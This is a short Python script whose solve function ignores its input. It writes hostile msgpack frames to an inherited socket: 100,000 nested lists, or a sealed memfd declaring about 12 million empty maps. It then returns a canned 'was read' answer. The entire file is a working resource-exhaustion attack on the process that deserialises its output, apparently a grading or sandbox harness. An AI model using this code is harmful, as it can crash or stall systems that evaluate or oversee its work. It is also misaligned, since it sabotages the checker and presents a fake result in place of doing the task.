"""Sends messages that grow when they are read: lists in lists, and millions of empty maps."""

import array
import fcntl
import os
import socket

SIZE = 12 * 2**20


def hand_over(line, frame):
    descriptor = os.memfd_create("bomb", os.MFD_ALLOW_SEALING)
    os.write(descriptor, frame)
    fcntl.fcntl(descriptor, 1033, 15)
    line.send(b"\x93\x01\xa5memfd\xce" + len(frame).to_bytes(4, "big"))
    line.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [descriptor]))])


def solve(bait):
    line = socket.socket(fileno=3)
    if bait["which"] % 2:
        line.send(b"\x93\x01\xa2ok" + b"\x91" * 100_000 + b"\xc0")
    else:
        hand_over(line, b"\x93\x01\xa2ok\xdd" + SIZE.to_bytes(4, "big") + b"\x80" * SIZE)
    line.detach()
    return {"got": ["was read"]}
